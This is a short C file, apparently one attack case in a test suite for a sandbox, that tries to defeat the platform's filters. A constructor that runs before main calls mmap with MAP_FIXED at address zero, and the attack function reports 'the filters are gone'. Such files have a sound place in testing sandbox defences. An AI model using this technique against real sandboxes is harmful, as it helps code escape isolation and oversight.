/* constructor_map_zero.c: maps over the platform's filters from below, from address zero on. */
#include "attack.h"

static __attribute__((constructor)) void
begin(void)
{
    (void)syscall(SYS_mmap, 0, 0x20000, PROT_READ | PROT_WRITE,
                  MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
}

const char *
attack(hearth_call *call)
{
    (void)call;
    return "the filters are gone";
}
